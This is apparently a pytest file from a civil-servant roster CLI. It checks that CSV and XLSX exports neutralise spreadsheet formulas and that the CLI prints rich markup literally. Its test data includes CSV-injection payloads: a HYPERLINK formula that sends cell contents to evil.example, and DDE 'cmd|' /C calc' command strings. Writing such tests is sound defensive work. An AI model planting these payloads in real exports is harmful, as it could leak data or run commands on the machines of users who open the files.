"""Hostile values in the data: formulas in exports, rich markup in CLI output, code file modes."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest
from openpyxl import load_workbook

from asnkarier import db
from asnkarier.services.support import record_unanswered
from tests.cli.test_cli import run

FORMULAS = {
    "nama": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "jabatan": "@SUM(A1:A9)",
    "unit_kerja": "=1+1",
}
MARKUP_UNIT = "Bidang [/] Umum"
HEADER = "nip,nama,unit_kerja,jabatan,golongan,no_hp\n"


def _roster(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.csv"
    rows = [
        f'198503122010011003,"{FORMULAS["nama"].replace(chr(34), chr(34) * 2)}",'
        f"{FORMULAS['unit_kerja']},{FORMULAS['jabatan']},III/c,+6281234567890",
        f"199001012015032001,-2+3+cmd|' /C calc'!A0,{MARKUP_UNIT},Analis [link=http://x]SDM[/link],"
        "III/a,",
        "198801012012121002,\tTab Awal,Dinas Kesehatan,Perawat Terampil,II/d,",
    ]
    path.write_text(HEADER + "\n".join(rows) + "\n", encoding="utf-8")
    return path


@pytest.fixture
def hostile_url(ready_url: str, tmp_path: Path) -> str:
    result = run(ready_url, "roster", "import", str(_roster(tmp_path)))
    assert result.returncode == 0, result.stderr
    return ready_url


def test_import_warns_per_row_and_field_about_formulas(ready_url: str, tmp_path: Path) -> None:
    result = run(ready_url, "roster", "import", str(_roster(tmp_path)))
    assert result.returncode == 0, result.stderr
    assert "Peringatan" in result.stderr
    cells = {
        tuple(c.strip() for c in row.split("│")[1:3])
        for row in result.stderr.splitlines()
        if "│" in row
    }
    assert {("2", "nama"), ("2", "unit_kerja"), ("2", "jabatan"), ("3", "nama")} <= cells
    assert ("2", "no_hp") not in cells  # a +62 number is a number, not a formula
    # The unit with rich markup in its name is reported as it is, without crashing the CLI.
    assert MARKUP_UNIT in result.stdout


def test_csv_export_neutralises_formulas_and_keeps_numbers(hostile_url: str) -> None:
    exported = run(hostile_url, "roster", "export")
    assert exported.returncode == 0, exported.stderr
    rows = {r["nip"]: r for r in csv.DictReader(exported.stdout.splitlines())}
    first = rows["198503122010011003"]
    for column, value in FORMULAS.items():
        assert first[column] == "'" + value
    assert first["no_hp"] == "081234567890"  # stored as 0812…: no apostrophe needed
    assert rows["199001012015032001"]["nama"].startswith("'-2+3")
    assert rows["199001012015032001"]["unit_kerja"] == MARKUP_UNIT
    assert all(
        not v.startswith(("=", "+", "-", "@", "\t")) for r in rows.values() for v in r.values()
    )


def test_xlsx_export_writes_text_cells_never_formulas(hostile_url: str, tmp_path: Path) -> None:
    target = tmp_path / "pegawai.xlsx"
    result = run(hostile_url, "roster", "export", "--out", str(target))
    assert result.returncode == 0, result.stderr
    sheet = load_workbook(target).active
    assert sheet is not None
    header = [c.value for c in sheet[1]]
    cells = {
        row[header.index("nip")].value: {h: c for h, c in zip(header, row, strict=True)}
        for row in sheet.iter_rows(min_row=2)
    }
    first = cells["198503122010011003"]
    for column, value in FORMULAS.items():
        assert first[column].data_type == "s"
        assert first[column].value == value  # the exact text, shown as text by Excel


def test_activation_codes_csv_is_neutralised_and_0600_even_with_force(
    hostile_url: str, tmp_path: Path
) -> None:
    out = tmp_path / "codes.csv"
    out.write_text("old\n")
    os.chmod(out, 0o644)
    result = run(hostile_url, "activation", "issue", "--all", "--out", str(out), "--force")
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    codes = {r["nip"]: r for r in csv.DictReader(out.read_text().splitlines())}
    assert codes["198503122010011003"]["nama"] == "'" + FORMULAS["nama"]
    assert codes["198503122010011003"]["unit_kerja"] == "'=1+1"


def test_unanswered_report_shows_markup_literally(ready_url: str) -> None:
    engine = db.make_engine(ready_url)
    with db.make_sessionmaker(engine).begin() as session:
        for text in ("apa arti [/] ini", "=cmd|' /C calc'!A0 tolong"):
            record_unanswered(session, text, "nlu_fallback", [{"name": "greet", "confidence": 0.2}])
    engine.dispose()
    table = run(ready_url, "nlu", "unanswered")
    assert table.returncode == 0, table.stderr
    assert "apa arti [/] ini" in table.stdout
    report = run(ready_url, "nlu", "unanswered", "--csv")
    texts = [r["pesan"] for r in csv.DictReader(report.stdout.splitlines())]
    assert "'=cmd|' /C calc'!A0 tolong" in texts


def test_broadcast_preview_shows_markup_as_recipients_see_it(
    hostile_url: str, tmp_path: Path
) -> None:
    text = "Info [link=http://evil.example]klik di sini[/link] dan [bold]ini[/]"
    text_file = tmp_path / "pesan.txt"
    text_file.write_text(text, encoding="utf-8")
    result = run(hostile_url, "broadcast", "send", "--text-file", str(text_file), "--segment",
                 "unit=BIDANG-UMUM")  # fmt: skip
    assert "Traceback" not in result.stderr
    assert text in result.stdout


def test_roster_size_cap_is_a_setting_with_a_clear_message(
    ready_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ROSTER_MAX_BYTES", "100")
    result = run(ready_url, "roster", "import", str(_roster(tmp_path)))
    assert result.returncode == 2
    assert "ROSTER_MAX_BYTES" in result.stderr
    assert "Traceback" not in result.stderr
